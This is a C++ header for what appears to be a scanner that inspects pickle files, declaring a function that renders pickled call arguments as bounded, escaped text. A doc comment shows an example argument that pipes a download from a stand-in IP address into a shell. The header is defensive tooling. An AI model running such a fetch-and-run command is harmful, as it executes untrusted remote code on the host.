// Values of a pickle as bounded, escaped text: what a call was given.
#pragma once

#include <string>

#include "pickle/tape.h"

namespace safe_load::scanner {

// At most this many characters, then "...".
inline constexpr std::size_t kMostRendered = 200;

// ("curl http://203.0.113.7/a | sh",); symbols as <module.name>.
std::string render(const pickle::Tape& tape, pickle::NodeId id);

}  // namespace safe_load::scanner
